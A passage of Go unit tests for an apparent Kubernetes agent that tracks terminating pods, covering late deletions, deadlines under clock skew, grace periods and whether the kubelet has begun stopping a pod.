		for _, late := range []bool{true, false} {
			a := &Agent{late: map[string]bool{"u": late}, Skew: func() (time.Duration, time.Duration, bool) { return 0, 0, true }}
			e := a.seed(obj.(*corev1.Pod))
			if e.DeadlineUnsure != (late && tt.unsure) || e.Skew == nil {
				t.Errorf("%s, late %v: unsure %v, skew %v", name, late, e.DeadlineUnsure, e.Skew)
			}
			if want := e.DeletionRequested.Add(600 * time.Second); e.DeadlineUnsure && !e.Deadline.Equal(want) {
				t.Errorf("%s: deadline %s, want %s", name, e.Deadline, want)
			}
		}
	}
}

// Those that are being deleted when the pods become known are late, and not those whose
// deletion is seen.
func TestLatePods(t *testing.T) {
	b := newBench()
	pod := func(uid types.UID, deleted bool) *corev1.Pod {
		p := &corev1.Pod{}
		p.UID = uid
		if deleted {
			p.DeletionTimestamp = new(metav1.Now())
		}
		return p
	}
	b.round(t.Context()) // nothing is known yet
	if b.late != nil {
		t.Errorf("before the pods are known: %v", b.late)
	}
	b.set([]*corev1.Pod{pod("old", true), pod("new", false)})
	b.round(t.Context())
	b.set([]*corev1.Pod{pod("old", true), pod("new", true)})
	b.round(t.Context())
	if !b.late["old"] || b.late["new"] {
		t.Errorf("late: %v", b.late)
	}
}

// The grace period of the specification is kept when the deletion has come with a shorter one.
func TestSpecifiedGrace(t *testing.T) {
	for grace, want := range map[int64]int64{5: 30, 30: 0, 60: 0} {
		p := terminating("a", time.Now(), grace)
		p.Spec.TerminationGracePeriodSeconds = new(int64)
		*p.Spec.TerminationGracePeriodSeconds = 30
		if got := Seed(p).SpecifiedGraceSeconds; got != want {
			t.Errorf("deleted with %d seconds: %d, want %d", grace, got, want)
		}
	}
}

// A deletion raises the pod's generation, and the kubelet writes which one it has seen when it
// begins to stop the pod.
func TestStopBegun(t *testing.T) {
	for name, tc := range map[string]struct {
		generation, observed int64
		begun, awaited       bool
	}{
		"seen":                          {2, 2, true, false},
		"not seen yet":                  {2, 1, false, true},
		"a kubelet that tells none":     {2, 0, false, false},
		"an API server that counts not": {0, 0, false, false},
	} {
		p := terminating("a", time.Now(), 30)
		p.Generation, p.Status.ObservedGeneration = tc.generation, tc.observed
		if e := Seed(p); e.StopBegun != tc.begun || e.StopAwaited != tc.awaited {
			t.Errorf("%s: begun %v, awaited %v", name, e.StopBegun, e.StopAwaited)
		}
		p.Status.Phase = corev1.PodSucceeded
		if Seed(p).StopAwaited {
			t.Errorf("%s, and it has ended: awaited", name)
		}
		p.DeletionTimestamp = nil
		if e := Seed(p); e.StopBegun || e.StopAwaited {
			t.Errorf("%s, and nobody has deleted it: begun %v, awaited %v", name, e.StopBegun, e.StopAwaited)
		}
	}
}

// Of the pods past their deadline those count that the kubelet has not begun to stop, and of those that it has the last deletion is known.
func TestPodsThatAwaitTheKubelet(t *testing.T) {
	now := time.Now().Truncate(time.Second)
	pod := func(deadline time.Duration, observed int64) *corev1.Pod {
		p := terminating("a", now.Add(deadline-30*time.Second), 30)
		p.Generation, p.Status.ObservedGeneration = 2, observed
		return p
	}
	running := pod(-time.Minute, 1)
	running.DeletionTimestamp = nil
	late := []*corev1.Pod{pod(-time.Minute, 1), pod(-time.Second, 1), pod(time.Second, 1), pod(-time.Minute, 2), pod(-time.Minute, 0), running}
	if got := Ask(late, now).Awaiting; got != 1 {
		t.Errorf("pods of %d namespaces await it", got)
	}
	if late[1].Namespace = "other"; Ask(late, now).Awaiting != 2 {
		t.Error("pods of two namespaces await it")
	}
	a := new(Agent)
	a.begun(0, late)
	if want := now.Add(-90 * time.Second); !a.lastBegun.Equal(want) {
		t.Errorf("begun last at %s, want %s", a.lastBegun, want)
	}
	a.begun(5*time.Second, []*corev1.Pod{pod(-2*time.Minute, 2)}, []*corev1.Pod{pod(-30*time.Second, 2)})
	if want := now.Add(-65 * time.Second); !a.lastBegun.Equal(want) {
		t.Errorf("then at %s, want %s", a.lastBegun, want)
	}
}
